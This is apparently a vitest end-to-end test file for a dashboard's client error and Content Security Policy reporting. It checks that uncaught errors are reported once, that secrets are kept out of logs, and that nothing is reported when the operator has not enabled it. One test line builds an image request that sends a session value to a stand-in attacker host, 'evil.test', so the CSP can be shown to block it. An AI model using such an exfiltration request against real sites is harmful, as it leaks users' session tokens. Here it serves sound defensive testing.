import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { settled } from './support/browser.js'
import { dashboardOnFreshCloud, signedIn } from './support/dashboard.js'
import { startServer, type HostServer } from './support/server.js'

const usual = dashboardOnFreshCloud()
let server: HostServer
beforeAll(async () => {
  server = await startServer({ CLIENT_REPORTS: 'on', LOG_FORMAT: 'json' })
})
afterAll(() => server.stop())

/** What the log has of reports. */
const reports = () =>
  server
    .output()
    .split('\n')
    .filter((line) => line.includes('"kind":'))
    .map((line) => JSON.parse(line) as Record<string, unknown>)

describe('S-REP-01 a browser whose page goes wrong', () => {
  it('tells of an error that nobody caught once, by panel and build, and of what its content policy has stopped, without secrets', async () => {
    const { page, close } = await signedIn(server, '/project/images', 'demo', {
      allow: [/row \d is broken/, /Content Security Policy/],
    })
    await page.evaluate(() => {
      for (let times = 0; times < 3; times++)
        setTimeout(() => {
          throw new Error('row 7 is broken, password=hunter2')
        })
    })
    await expect.poll(reports).toHaveLength(1)
    expect(reports()[0]).toMatchObject({ kind: 'error', level: 'warn', page: '/project/images' })
    expect(reports()[0]?.['build']).toMatch(/^index-[\w-]+\.js$/)
    await page.evaluate(() => {
      const image = new Image()
      image.src = 'https://evil.test/collect?session=hunter2'
    })
    await expect.poll(reports).toHaveLength(2)
    expect(reports()[1]).toMatchObject({ kind: 'csp', directive: 'img-src' })
    expect(server.output()).not.toContain('hunter2')
    await close()
  })

  it('tells nobody where the operator has not asked for it', async () => {
    const { page, close } = await signedIn(usual, '/project/images', 'demo', { allow: [/row \d is broken/] })
    const told: string[] = []
    page.on('request', (request) => request.url().includes('stratus-reports') && told.push(request.url()))
    const failed = page.waitForEvent('pageerror')
    await page.evaluate(() => void setTimeout(() => void Promise.reject(new Error('row 7 is broken'))))
    await failed
    await settled(page)
    expect(told).toEqual([])
    await close()
  })
})
